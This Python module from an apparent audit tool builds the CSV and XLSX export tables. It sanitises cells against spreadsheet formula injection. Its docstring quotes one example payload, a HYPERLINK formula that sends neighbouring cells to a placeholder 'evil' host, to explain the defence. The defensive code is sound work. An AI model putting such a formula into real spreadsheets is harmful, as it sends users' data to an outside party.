"""The Result as flat tables, shared by the CSV files and the XLSX sheets.

Built from the typed view (:mod:`.typed_view`) that every format renders, so a table
row says what the terminal, HTML and Markdown reports say. One :class:`Table` per subject
(inventory, findings, people per platform, …), each a header and rows of plain values:
``str``, ``int``, ``float`` or ``None``. Lists are joined with ``"; "``, booleans become
``yes``/``no`` (``None``: empty), so a consultant's pivot table and a pipeline's
``csv.DictReader`` see the same columns.

Values are *raw* here. Spreadsheets are a medium with its own injection risk — a cell
that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and
Google Sheets, and ``=HYPERLINK("http://evil/?"&A1)`` in an OAuth app name would send
the neighbouring cells to whoever published the app — so :func:`spreadsheet_text` makes
a tenant string safe for a cell and both writers use it on every string.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

from sprawl_audit.report.formats.labels import capability_label, instant, yes_no
from sprawl_audit.report.formats.markup import xml_safe
from sprawl_audit.report.formats.plan_view import PlanView, decommission_lines
from sprawl_audit.report.formats.typed_view import ReportView

Value = str | int | float | None

#: Excel's limit on the characters in one cell.
SPREADSHEET_CELL_LIMIT = 32767
#: Characters that make a spreadsheet read a cell as a formula (or, for TAB and CR, that
#: some importers strip before looking for one) — OWASP "CSV Injection" — plus their
#: full-width forms, which some spreadsheet software folds to ASCII.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
LIST_SEPARATOR = "; "


def spreadsheet_text(value: Any, *, quote: bool = True) -> str:
    """A tenant string as one spreadsheet cell: one line, no controls, never a formula.

    Control, bidi and invisible characters go (:func:`~.markup.xml_safe`). With ``quote``
    (CSV, where a cell has no type) a value that would start a formula gets a leading
    ``'``, which spreadsheets show as text. XLSX cells carry a type, so the XLSX writer
    passes ``quote=False``, stores the text as a string and marks it quote-prefixed
    instead (see :func:`starts_formula`).
    """
    # xml_safe: sanitize.cell() minus the two characters XLSX (XML) cannot hold at all
    text = xml_safe(value, SPREADSHEET_CELL_LIMIT - 1)
    if quote and starts_formula(text):
        return "'" + text
    return text


def starts_formula(text: str) -> bool:
    """Whether ``text`` would be read as a formula if typed into a cell as it is."""
    return bool(text) and (text[0] in FORMULA_TRIGGERS or text.lstrip()[:1] in FORMULA_TRIGGERS)


@dataclass(frozen=True)
class Table:
    """One table: ``part`` names the CSV file, ``title`` the sheet. ``personal``: a row
    per person or per owned phone number (its CSV file is written owner-only)."""

    part: str
    title: str
    columns: tuple[str, ...]
    rows: list[tuple[Value, ...]] = field(default_factory=list)
    #: Columns holding a 0..1 share (shown as a percentage in XLSX).
    ratio_columns: frozenset[str] = frozenset()
    personal: bool = False


def _join(values: Sequence[str]) -> str:
    return LIST_SEPARATOR.join(values)


def _flag(value: bool | None) -> str | None:
    return None if value is None else yes_no(value)


def summary_rows(view: ReportView) -> list[tuple[str, Value]]:
    """Headline numbers as (label, value) pairs, most consequential first."""
    summary, run = view.summary, view.run
    # An incomplete audit and a baseline's hidden findings lead the table: a spreadsheet
    # reader sees them before any number they qualify.
    rows: list[tuple[str, Value]] = [
        ("Audit status" if kind == "incomplete" else "Baseline", text)
        for kind, text in view.notices]
    rows += [
        ("Organisation", run.organisation),
        ("Evidence as of", instant(run.as_of)),
        ("Run", run.mode),
        ("Platforms in use", summary.platforms),
        ("Corporate platforms", summary.corporate_platforms),
        ("Consumer platforms", summary.consumer_platforms),
        ("Unknown platforms", summary.unknown_platforms),
        ("People", summary.people),
        ("Departments", summary.departments),
        ("People using consumer apps", summary.consumer_app_users),
        ("Capabilities on more than one platform",
         ", ".join(capability_label(c) for c in summary.capabilities_with_overlap)),
        ("Integrations", summary.integrations),
        ("External parties", summary.external_parties),
        ("Phone numbers", summary.phone_numbers),
        ("Mail domains", summary.mail_domains),
    ]
    rows += [(f"Findings: {sev}", n) for sev, n in summary.severity_counts.items()]
    rows += [
        ("Rules failed", summary.rules_failed),
        ("Rules passed", summary.rules_passed),
        ("Rules not assessed", summary.rules_not_assessed),
        ("Areas not assessed (no source read the evidence)",
         "; ".join(summary.not_assessed_areas)),
        ("Coverage gaps", summary.coverage_gaps),
        ("Run id", run.id),
        ("Tool", f"{run.tool_name} {run.tool_version}".strip()),
    ]
    return rows


def build_tables(view: ReportView) -> list[Table]:
    """Every table, in the order a reader wants them (summary first)."""
    tables = [
        Table("summary", "Summary", ("Item", "Value"), list(summary_rows(view))),
        _inventory(view),
        _findings(view),
        _rules(view),
        Table("people-platforms", "People-Platforms",
              ("Person", "Department", "Platform ID", "Platform"),
              [(person, dept, pid, view.name_of(pid))
               for person, dept, pid in sorted((p.id, p.department, pid) for p in view.people
                                               for pid in p.platforms)], personal=True),
        _capabilities(view),
        _departments(view),
        _phone_numbers(view),
        _integrations(view),
        _external_parties(view),
        _mail_domains(view),
        _licences(view),
        _coverage(view),
    ]
    if view.frameworks:
        tables.insert(4, _compliance(view))
    if view.plan:
        tables += plan_tables(PlanView(view.plan))
    return tables


def _rows(rows: Sequence[Sequence[Value]]) -> list[tuple[Value, ...]]:
    return [tuple(r) for r in rows]


def plan_tables(plan: PlanView) -> list[Table]:
    """The consolidation plan: targets, retire list, savings, waves, decommission steps."""
    targets = Table("plan-targets", "Plan-Targets",
                    ("Capability", "Target", "Score", "Why", "Runner-up"),
                    _rows(plan.target_rows()))
    retire = Table("plan-retire", "Plan-Retire",
                   ("Platform", "Kind", "People", "Departments", "Replaced by", "Work",
                    "Wave", "Status"),
                   _rows(plan.retire_rows()))
    keep = Table("plan-keep", "Plan-Keep", ("Platform", "Why it stays"),
                 _rows(plan.keep_rows()))
    money = Table("plan-savings", "Plan-Savings",
                  ("Platform", "Saving", "What", "Count", "A year"),
                  _rows([*plan.savings_rows(), ("Total", "", "", "", plan.savings_total())]))
    waves = Table("plan-waves", "Plan-Waves",
                  ("Wave", "When", "Departments", "People", "Moves", "Training", "Status"),
                  _rows(plan.wave_rows()))
    steps = Table("plan-decommission", "Plan-Decommission", ("Wave", "Step"),
                  _rows(decommission_lines(plan.plan)))
    return [targets, retire, keep, money, waves, steps]


def _inventory(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (p.id, p.name, p.vendor, p.catalog, p.classification, _flag(p.sanctioned),
         _join([capability_label(c) for c in p.capabilities]), p.active_users, p.users,
         p.head_count, len(p.departments), _join(p.departments), _flag(p.identity_linked),
         _join(p.external_targets), _join(p.data_categories), _join(p.tags), _join(p.sources))
        for p in view.platforms
    ]
    return Table("inventory", "Inventory", (
        "Platform ID", "Platform", "Vendor", "Catalogue entry", "Classification",
        "Sanctioned", "Capabilities", "Active users", "Users", "Head count (stated)",
        "Department count", "Departments", "Identity linked", "External targets",
        "Data categories", "Tags", "Seen by"), rows)


def _findings(view: ReportView) -> Table:
    decisions = {f.fingerprint: block.decision.title for severity in view.by_severity
                 for block in severity.rules if block.decision for f in block.findings}
    rows: list[tuple[Value, ...]] = [
        (f.severity, f.rule_id, f.title, f.subject.kind, f.subject.id, f.subject.name,
         f.message, f.remediation, f.rationale, _join([r.tag for r in f.references]),
         _join(f.evidence), _flag(f.suppressed), f.fingerprint,
         decisions.get(f.fingerprint), f.group or None)
        for f in view.all_findings
    ]
    return Table("findings", "Findings", (
        "Severity", "Rule", "Title", "Subject kind", "Subject ID", "Subject", "Finding",
        "Remediation", "Rationale", "References", "Evidence", "Suppressed", "Fingerprint",
        "Decision", "Group"), rows)


def _rules(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (r.id, r.title, r.severity, r.pack, r.status, r.findings, r.reason, _join(r.requires),
         _join([ref.tag for ref in r.references]))
        for r in view.rules
    ]
    return Table("rules", "Rules", ("Rule", "Title", "Severity", "Pack", "Status", "Findings",
                                    "Why not assessed", "Evidence required", "References"), rows)


def _compliance(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (fw.id, fw.name, fw.version, c.id, c.title, c.status, c.findings,
         _join([r.id for r in c.rules]), _join(c.reasons))
        for fw in view.frameworks for c in fw.controls
    ]
    return Table("compliance", "Compliance", ("Framework", "Framework name", "Version",
                                              "Control", "Title", "Status", "Findings",
                                              "Rules", "Reasons"), rows)


def _capabilities(view: ReportView) -> Table:
    """One row per platform compared for a capability; in the primary overlap view, the
    platforms that have it only as a secondary capability follow as rows marked "not
    compared" (no counts), so a spreadsheet shows the same picture as the report."""
    rows: list[tuple[Value, ...]] = []
    for cap in view.capabilities:
        rows += [(capability_label(cap.name), p.platform, p.name, p.active_users,
                  cap.overlapping_users, "compared") for p in cap.platforms]
        rows += [(capability_label(cap.name), None, name, None, None,
                  "not compared (secondary capability)") for name in cap.secondary]
    return Table("capabilities", "Capabilities", (
        "Capability", "Platform ID", "Platform", "Active users",
        "People on 2+ platforms for this capability", "Overlap view"), rows)


def _departments(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (d.name, d.people, d.consumer_app_users, round(d.consumer_exposure, 4),
         _join(d.consumer_apps))
        for d in view.departments
    ]
    return Table("departments", "Departments", (
        "Department", "People", "People on consumer apps", "Share on consumer apps",
        "Consumer apps"), rows, ratio_columns=frozenset({"Share on consumer apps"}))


def _phone_numbers(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (n.number, n.label, n.owner, _flag(n.has_owner), _flag(n.owner_enabled),
         _flag(n.leaver_line), n.leaver_reason, _flag(n.service_line), n.provider, n.system,
         n.kind, n.site, _flag(n.call_recording), n.retention_days, _flag(n.takes_payments))
        for n in view.phone_numbers
    ]
    return Table("phone-numbers", "Phone numbers", (
        "Number", "Label", "Owner", "Has owner", "Owner enabled", "Leaver's line",
        "Leaver reason", "Service line", "Provider", "System", "Kind", "Site",
        "Call recording", "Retention days", "Takes payments"), rows, personal=True)


def _integrations(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (i.id, i.name, i.app, i.host, i.kind, _join(i.scopes), i.consent_type, i.user_count,
         _flag(i.all_users), i.publisher, _flag(i.verified_publisher), _flag(i.sanctioned),
         _flag(i.ai), _flag(i.mail_access), _flag(i.meeting_access))
        for i in view.integrations
    ]
    return Table("integrations", "Integrations", (
        "Integration ID", "Name", "App (platform)", "Host platform", "Kind", "Scopes",
        "Consent", "Users", "All users", "Publisher", "Verified publisher", "Sanctioned", "AI",
        "Mail access", "Meeting access"), rows)


def _external_parties(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (e.name, _join(e.aliases), _join(e.evidence), _join(e.link_kinds),
         _join([view.name_of(p) for p in e.platforms]), e.people, _flag(e.consumer_domain))
        for e in view.external_parties
    ]
    return Table("external-parties", "External parties", (
        "External party", "Aliases", "Evidence", "Links", "Platforms", "People",
        "Consumer domain"), rows)


def _mail_domains(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (m.domain, _join(m.mail_providers), m.spf_all, _join(m.spf_senders), m.spf_lookups,
         m.dmarc_policy, m.dmarc_pct, _join(m.dmarc_rua), _join(m.dkim_ok),
         _join(m.dkim_missing), m.mta_sts_mode, _flag(m.tls_rpt))
        for m in view.mail_domains
    ]
    return Table("mail-domains", "Mail domains", (
        "Domain", "Mail providers", "SPF all", "SPF senders", "SPF lookups", "DMARC policy",
        "DMARC pct", "DMARC reports to", "DKIM selectors OK", "DKIM selectors missing",
        "MTA-STS mode", "TLS-RPT"), rows)


def _licences(view: ReportView) -> Table:
    """Licences per platform (schema 1.4); an empty cell is a count the source did not
    give ("not assessed"), never zero."""
    rows: list[tuple[Value, ...]] = [
        (lic.platform, lic.name, lic.kind, lic.licence, lic.sku or None, lic.product or None,
         lic.enabled, lic.consumed, lic.unassigned, lic.suspended, lic.warning, lic.users,
         lic.held_by_disabled, lic.inactive, lic.detail or None)
        for lic in view.licences
    ]
    return Table("licences", "Licences", (
        "Platform ID", "Platform", "Row", "Licences", "SKU", "Product", "Seats bought",
        "Seats assigned", "Seats unassigned", "Suspended", "Warning", "Users",
        "Held by disabled accounts", "Held with no activity", "Detail"), rows)


def _coverage(view: ReportView) -> Table:
    rows: list[tuple[Value, ...]] = [
        (c.connector, c.topic, c.status, c.items, c.detail) for c in view.coverage]
    return Table("coverage", "Coverage", ("Connector", "Evidence topic", "Status", "Items",
                                          "Detail"), rows)


def plain_value(value: Any, *, quote: bool = True) -> Value:
    """A table value as a writer should see it: numbers kept, everything else safe text.

    Empty text is ``None``, an empty cell: the typed view reads a missing string as ``""``,
    and an XLSX cell holding an empty string is only clutter.
    """
    if value is None or value == "":
        return None
    if isinstance(value, bool):
        return yes_no(value)
    if isinstance(value, int | float):
        return value
    return spreadsheet_text(value, quote=quote)


def plain_row(row: Sequence[Any], *, quote: bool = True) -> list[Value]:
    return [plain_value(v, quote=quote) for v in row]
